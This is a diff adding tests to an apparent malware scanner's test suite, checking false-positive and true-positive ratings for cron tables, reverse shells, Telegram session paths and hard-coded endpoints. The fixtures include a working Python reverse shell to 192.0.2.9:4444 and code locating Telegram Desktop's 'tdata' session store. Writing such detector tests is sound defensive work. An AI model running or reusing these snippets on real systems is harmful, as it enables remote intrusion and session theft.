@@ -176,3 +176,64 @@ test("setuptools' namespace-package .pth lines are not taken as a large hidden p
   const altered = namespace.replaceAll('(p not in mp)', '(p not in mp) and len(sys.path)');
   assert.notEqual(pth(altered)?.severity, 'low');
 });
+
+test('a cron library: its table of locations and its @reboot keyword are data; a boot job running a command is not', () => {
+  const table = findings(
+    'KNOWN = [\n  (1, "/var/spool/cron/crontabs/"),\n  (2, "/etc/crontab"),\n  (3, "/etc/cron.d/"),\n]\nSPECIALS = {"reboot": "@reboot", "hourly": "0 * * * *", "daily": "0 0 * * *"}\n',
+  );
+  assert.ok(
+    table.filter((f) => f.rule === 'persistence').every((f) => f.severity === 'low'),
+    JSON.stringify(table.map((f) => [f.rule, f.severity])),
+  );
+  const keyword = findings('class Job:\n    def every_reboot(self):\n        return self.setall("@reboot")\n');
+  assert.equal(ruleOf(keyword, 'persistence')?.severity, 'low');
+});
+
+test('a python -c script that mentions sys.stdout.fileno() in its text is not a socket wired to a process', () => {
+  const source = [
+    'import socket, subprocess, sys',
+    'def probe():',
+    '    socket.create_connection(("files.example", 80))',
+    '    subprocess.Popen([sys.executable, "-c", "import os, sys\\nos.write(sys.stdout.fileno(), sys.stdin.read(4))"], stdout=subprocess.PIPE)',
+  ].join('\n');
+  assert.equal(ruleOf(findings(source), 'reverse-shell'), undefined);
+  const wired = [
+    'import socket, subprocess',
+    'def shell():',
+    '    s = socket.create_connection(("192.0.2.9", 4444))',
+    '    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())',
+  ].join('\n');
+  assert.equal(ruleOf(findings(wired), 'reverse-shell')?.severity, 'high');
+});
+
+test("a project's own tdata folder is not Telegram's session store; Telegram Desktop's is", () => {
+  const own = findings('HELP = "more in xfel/merging/application/tdata/README.md"\ndef f():\n    return open(HELP)\n');
+  assert.equal(ruleOf(own, 'sensitive-file-access'), undefined);
+  const store = findings(
+    'import os\ndef grab():\n    return os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata")\n',
+  );
+  assert.match(ruleOf(store, 'sensitive-file-access')?.message ?? '', /Telegram session/);
+});
+
+test("a host kept in the package's config module is written out, not hidden", async () => {
+  const report = await analyseFiles({
+    'pkg/__init__.py': 'DOWNLOADS_URL = "https://downloads.tool.example"\n',
+    'pkg/get.py':
+      'import requests\nfrom pkg import DOWNLOADS_URL\ndef get(name):\n    return requests.get(DOWNLOADS_URL + "/api/" + name)\n',
+  });
+  const call = report.files
+    .find((file) => file.path === 'pkg/get.py')
+    ?.findings.find((f) => f.rule === 'egress-network-call');
+  assert.equal(call?.destination?.host, 'downloads.tool.example');
+  assert.equal(call?.severity, 'low');
+  assert.doesNotMatch(call?.message ?? '', /never writes/);
+});
+
+test("a chat service's CDN address built when called is low; on import it stays medium", () => {
+  const avatar = findings(
+    'AVATAR = "https://cdn.discordapp.com/avatars/{id}/{avatar}.png"\ndef url(u):\n    return AVATAR.format(id=u.id, avatar=u.avatar)\n',
+  );
+  assert.equal(ruleOf(avatar, 'hardcoded-endpoint')?.severity, 'medium', 'a module constant, defined on import');
+  const inFunction = findings('def url(u):\n    return "https://cdn.discordapp.com/avatars/%s.png" % u\n');
+  assert.equal(ruleOf(inFunction, 'hardcoded-endpoint')?.severity, 'low');
+});
